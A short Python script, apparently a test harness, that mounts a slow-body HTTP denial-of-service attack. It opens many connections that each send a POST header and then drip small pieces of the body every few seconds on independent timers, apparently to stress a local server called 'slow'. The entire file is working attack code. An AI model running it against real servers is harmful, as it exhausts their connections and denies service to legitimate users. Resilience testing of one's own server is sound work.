"""The attacker of `slow` that is many: N connections that each send a body a few octets at a time, each by a clock of its own,
as clients on N machines do. slowhttptest has one clock for all of them."""

import asyncio
import sys
import time

EVERY = 3
"""Seconds between two pieces of a body."""
PIECE = b"x" * 32
HEADER = b"POST /read HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/octet-stream\r\nContent-Length: 8192\r\n\r\n"


async def connection(host: str, port: int, begin: float, end: float) -> None:
    writer = None
    try:
        await asyncio.sleep(begin - time.monotonic())
        _, writer = await asyncio.open_connection(host, port)
        writer.write(HEADER)
        due = begin + EVERY
        while due < end:
            await asyncio.sleep(due - time.monotonic())
            writer.write(PIECE)
            await writer.drain()
            due += EVERY
    except OSError:
        pass
    finally:
        if writer is not None:
            writer.transport.abort()


async def main(host: str, port: int, connections: int, seconds: float) -> None:
    """They come within `EVERY` seconds, evenly, so that what they send is spread evenly too."""
    begin = time.monotonic() + 0.2
    await asyncio.gather(*(
        connection(host, port, begin + EVERY * number / connections, begin + seconds) for number in range(connections)
    ))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
